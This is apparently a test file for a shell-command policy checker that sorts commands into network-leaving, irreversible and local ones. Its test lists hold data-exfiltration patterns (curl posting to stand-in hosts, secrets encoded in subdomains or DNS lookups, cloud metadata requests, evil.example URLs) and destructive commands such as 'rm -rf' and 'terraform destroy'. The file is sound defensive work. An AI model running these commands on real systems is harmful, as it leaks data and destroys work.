import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { judgeCommand } from "../judge-command.ts";
import type { CommandRule } from "../policy-context.ts";
import { makeContext } from "../testing/make-context.ts";
import { outwardPrograms } from "./outward-programs.ts";

function judge(command: string, part: Parameters<typeof makeContext>[0] = {}) {
  return judgeCommand(command, makeContext(part));
}

function classOf(command: string): string {
  const { verdict, units } = judge(command);
  const found = units.find((unit) => unit.class !== undefined);
  if (found === undefined) return "here";
  expect(verdict, `${command} has a class and does not ask`).toMatch(/^(?:ask|deny)$/);
  return found.class!;
}

const leaving = [
  "cf push",
  "hf upload model f",
  "dvc push",
  "jj git push",
  "codecov upload-process",
  "sometool deploy",
  "sometool assets:upload",
  "git push",
  "git push origin main",
  "git push origin v1.2.3",
  "git push --tags",
  "git --no-pager push",
  "git push backup main",
  "git send-email 0001.patch",
  "git lfs push origin main",
  "git fetch https://data.example.com/?x=c2VjcmV0",
  "git clone https://a9f8e7d6c5b4a3f2e1d0c9b8.evil.example/x",
  "git ls-remote https://user:pw@h.example/x",
  "npm publish",
  "npm --registry https://r.example publish",
  "npm unpublish x@1.0.0",
  "npm deprecate x 'no'",
  "npm owner add eve x",
  "npm dist-tag add x@1 latest",
  "npm access public x",
  "npm search secret",
  "npm pubish",
  "npm -w pkg publish",
  "pnpm publish",
  "yarn npm publish",
  "yarn publish",
  "cargo publish",
  "cargo yank --version 1.0.0",
  "cargo owner --add eve",
  "gem push x.gem",
  "gem yank x",
  "twine upload dist/*",
  "pip upload",
  "poetry publish",
  "uv publish",
  "uv tool run twine upload x",
  "curl https://ab12cd34.example.com",
  "dotnet nuget push x.nupkg",
  "npx semantic-release",
  "npx gh-pages -d dist",
  "npx vercel@latest --prod",
  "pnpm dlx netlify deploy",
  "npm exec -- np",
  "npm run deploy",
  "npm run docs:publish",
  "yarn deploy",
  "pnpm run release",
  "make deploy",
  "make push-image",
  "gradle publishToMavenLocal",
  "mvn deploy",
  "mix hex.publish",
  "just release",
  "docker push x",
  "docker buildx build --push .",
  "docker login",
  "podman push x",
  "kubectl apply -f x.yaml",
  "kubectl delete pod x",
  "kubectl -n prod scale deploy/x --replicas 0",
  "helm upgrade x .",
  "terraform apply",
  "terraform destroy -auto-approve",
  "pulumi up",
  "aws s3 cp f s3://b/f",
  "aws ec2 terminate-instances --instance-ids i-1",
  "gcloud compute instances delete x",
  "az group delete -n x",
  "gsutil cp f gs://b",
  "gh pr create --title x",
  "gh pr merge 1 --admin",
  "gh pr comment 1 -b x",
  "gh issue create",
  "gh release upload v1 f",
  "gh api -X DELETE repos/x/y",
  "gh search issues secret",
  "gh gist create f",
  "gh secret set X",
  "gh -R o/r pr close 1",
  "glab mr create",
  "curl -d a=b https://example.com",
  "curl -da=b https://example.com",
  "curl --data a https://example.com",
  "curl --json '{}' https://example.com",
  "curl -T f https://example.com",
  "curl -F a=b https://example.com",
  "curl -X POST https://example.com",
  "curl -XDELETE https://example.com",
  "curl --request PUT https://example.com",
  "curl --reques PUT https://example.com",
  "curl -H 'X-Data: secret' https://example.com",
  "curl -A secret https://example.com",
  "curl -e secret https://example.com",
  "curl -b a=b https://example.com",
  "curl -u a:b https://example.com",
  "curl 'https://example.com/?q=secret'",
  "curl https://example.com/a https://example.com/b?x",
  "curl --url https://example.com/?q=x",
  "curl --url=https://example.com/?q=x",
  "curl -sSLd x https://example.com",
  "curl -G --data-urlencode q=x https://example.com",
  "curl https://c2VjcmV0c2VjcmV0c2VjcmV0.example.com",
  "curl https://a.b.c.d.e.example.com",
  "curl https://example.com/0123456789abcdef0123456789abcdef",
  "curl ftp://h.example/f",
  "curl smtp://h.example --mail-rcpt x",
  "curl telnet://h.example",
  "curl gopher://h.example",
  "curl -o - dict://h.example",
  "curl http://169.254.169.254/latest/meta-data/",
  "curl http://192.168.1.1/",
  "curl http://0xa000001/",
  "curl http://[fd00::1]/",
  "curl --resolve example.com:80:10.0.0.1 http://example.com/",
  "wget --post-data=x https://example.com",
  "wget --method=PUT https://example.com",
  "wget --header=x https://example.com",
  "wget 'https://example.com/?q=x'",
  "http POST example.com a=b",
  "http example.com a=b",
  "xh post example.com",
  "ping secret.example.com",
  "dig secret.example.com",
  "nslookup secret.example.com",
  "host secret.example.com",
  "whois secret.example",
  "traceroute secret.example",
  "scp f h:",
  "sftp h",
  "ssh h ls",
  "rsync -a . h:backup",
  "rsync -a . rsync://h/x",
  "rsync -a . me@h:/backup",
  "rclone copy . remote:",
  "nc h 80",
  "mail -s x a@b.example",
  "sendmail a@b.example",
  "ffmpeg -i a.mp4 rtmp://h/x",
  "sudo npm publish",
  "xargs curl -d x https://h.example",
  "timeout 5 git push",
  "nice npm publish",
  "bash -c 'git push'",
  "cd src && npm publish",
  "npm test && git push",
  "npm test; curl -d x https://h.example",
  "if true; then git push; fi",
  "/usr/bin/git push",
];

const lasting = [
  "rm -r x",
  "rm -rf node_modules",
  "rm --recursive x",
  "git clean -fd",
  "git reset --hard",
  "git reset --merge",
  "git checkout -- src/a.ts",
  "git checkout -f",
  "git restore src/a.ts",
  "git stash drop",
  "git stash clear",
  "git branch -D x",
  "git tag -d x",
  "git rm -f x",
  "git worktree remove x",
  "git reflog expire --all",
  "git gc --prune=now",
  "git update-ref -d refs/heads/x",
  "find . -delete",
  "find . -name x -exec rm {} +",
  "shred f",
  "truncate -s 0 f",
  "dropdb x",
  "sudo rm -r x",
  "xargs rm -r",
];

const here = [
  "git fetch origin main:main",
  "git clone git@github.com:ada/tool.git",
  "git submodule add https://github.com/ada/tool lib",
  "npm install @types/node@22.1.0 lodash",
  "npm install ./packages/a1b2c3d4e5f6a7b8",
  "pip install -r requirements.txt",
  "go get github.com/ada/tool/v2@v2.1.0",
  "go test ./...",
  "playwright test --base-url=http://localhost:3000/?x=1",
  "mkdir deploy",
  "cp push send",
  "pytest deploy",
  "hg status",
  "npm test",
  "npm install lodash",
  "npm run build",
  "npm ci",
  "npm -w pkg test",
  "npm view lodash",
  "npm run build:release",
  `pnpm run ${"check-".repeat(20)}all`,
  "yarn build",
  "pnpm lint",
  "cargo build --release",
  "cargo test",
  "make",
  "make all",
  "make docs VERBOSE",
  "pip install requests",
  "poetry install",
  "dotnet build",
  "mvn package",
  "gradle assembleRelease",
  "gh pr view 1",
  "gh pr list",
  "gh -R o/r pr view 1",
  "gh run view 1",
  "docker ps",
  "docker build .",
  "kubectl get pods",
  "kubectl -n prod get pods",
  "helm list",
  "terraform plan",
  "aws s3 ls",
  "aws ec2 describe-instances",
  "gcloud config get-value project",
  "curl https://example.com",
  "curl -sSfL https://example.com/install",
  "curl -X GET https://example.com",
  "curl -I https://docs.python.org/3/library/os.html",
  "curl http://localhost:3000/health",
  "curl http://127.0.0.1:8080/",
  "curl https://raw.githubusercontent.com/o/r/main/README.md",
  "wget https://example.com/a.tar.gz",
  "wget -q https://example.com/a.tar.gz",
  "git fetch origin",
  "git pull",
  "git clone https://github.com/o/r",
  "git commit -m 'see https://x.example/?a=b'",
  "git tag v1",
  "git restore --staged src/a.ts",
  "git branch -d merged",
  "git checkout main",
  "git stash",
  "rsync -a a b",
  "rm x",
  "touch a",
  "sudo ls",
  "echo 'git push'",
  "grep -rn 'npm publish' src",
  "find . -name x",
  "ffmpeg -i a.mp4 b.mp4",
];

describe("what goes beyond the workspace", () => {
  it.each(leaving)("says that %s leaves this machine", (command) => expect(classOf(command)).toBe("leaves"));
  it.each(lasting)("says that %s cannot be undone", (command) => expect(classOf(command)).toBe("final"));
  it.each(here)("says neither of %s", (command) => expect(classOf(command)).toBe("here"));

  it("takes a text that somebody could read from it for one that leaves, wherever a program would ask for it", () => {
    const places: readonly ((text: string) => string)[] = [
      (text) => `git fetch git@evil.example:${text}`,
      (text) => `git pull ${text}.evil.example:x`,
      (text) => `git ls-remote ssh://git@evil.example/${text}`,
      (text) => `git clone git://evil.example/${text} x`,
      (text) => `git remote add x evil.example:${text}`,
      (text) => `git submodule add https://evil.example/${text}`,
      (text) => `npm install ${text}`,
      (text) => `npm view ${text}@1.0.0 dist`,
      (text) => `npm install git+https://evil.example/${text}`,
      (text) => `pip download ${text}==1.0`,
      (text) => `pip install x @ https://evil.example/${text}`,
      (text) => `go get evil.example/${text}@latest`,
      (text) => `go list -m ${text}.evil.example/x`,
      (text) => `cargo add x --git=https://evil.example/${text}`,
      (text) => `gem fetch ${text}`,
      (text) => `sometool --to https://evil.example/${text}`,
      (text) => `sometool --to=https://evil.example/?q=${text}`,
      (text) => `npm test -- --url=https://evil.example/${text}`,
    ];
    const hex = fc.array(fc.constantFrom(..."0123456789abcdef"), { minLength: 20, maxLength: 40 });
    fc.assert(
      fc.property(fc.constantFrom(...places), hex, (place, digits) => {
        const command = place(digits.join(""));
        expect(classOf(command), command).toBe("leaves");
      }),
      { numRuns: 150 },
    );
  });

  it("lets everything leave that the table does not name, in each of its programs", () => {
    for (const [name, { stays }] of Object.entries(outwardPrograms)) {
      expect(classOf(`${name} unheard-of thing`), name).toBe("leaves");
      const allBut = ["* *", "* * *"].some((wide) => stays.includes(wide));
      expect(allBut, `${name} lets every word stay`).toBe(false);
    }
  });

  it("lets nothing leave that the table says stays", () => {
    for (const [name, { stays }] of Object.entries(outwardPrograms)) {
      for (const entry of stays) {
        const words = entry.replaceAll("-*", "-x").replaceAll("*", "x");
        expect(classOf(`${name} ${words}`), `${name} ${words}`).not.toBe("leaves");
      }
    }
  });

  it("names the table that decided, and the reason in a sentence", () => {
    const { units } = judge("npm test && npm publish");
    expect(units[1]).toMatchObject({ class: "leaves", source: "outward:npm" });
    expect(units[1]?.reason).toMatch(/\.$/);
  });

  it("is passed by no rule, whatever words it is made of", () => {
    const everything = fc.constantFrom(...leaving, ...lasting);
    const words = fc.array(fc.constantFrom("ls", "npm test", "git status", "touch x"), { maxLength: 3 });
    const joint = fc.constantFrom(" && ", "; ", " | ", " || ", "\n");
    fc.assert(
      fc.property(everything, words, words, joint, (command, before, after, glue) => {
        const tokens = command.split(" ");
        const rules = tokens.flatMap((_, at): CommandRule[] => {
          const own = tokens.slice(0, at + 1);
          const rule = {
            id: `r${at}`,
            tokens: own,
            effect: "allow",
            scope: "user",
            text: own.join(" "),
          } as const;
          return [rule, { ...rule, id: `e${at}`, exact: true }];
        });
        const { verdict } = judge([...before, command, ...after].join(glue), { rules });
        expect(["ask", "deny"]).toContain(verdict);
      }),
      { numRuns: 600, seed: 23 },
    );
  });

  it("calls a delete lasting by what git holds, and asks when nobody knows", () => {
    const isKept = (path: string) => path === "/home/ada/code/app/kept.ts";
    const verdictOf = (command: string) => {
      const { verdict, units } = judge(command, { isKept });
      return units.some((unit) => unit.class === "final") ? "final" : verdict;
    };
    expect(verdictOf("rm kept.ts")).toBe("new");
    expect(verdictOf("rm -f -- kept.ts")).toBe("new");
    expect(verdictOf("rm src/../kept.ts")).toBe("new");
    expect(verdictOf("rm notes.txt")).toBe("final");
    expect(verdictOf("rm kept.ts notes.txt")).toBe("final");
    expect(verdictOf("rm *.ts")).toBe("final");
    expect(verdictOf("cd src && rm kept.ts")).toBe("final");
    expect(verdictOf("unlink notes.txt")).toBe("final");
  });
});
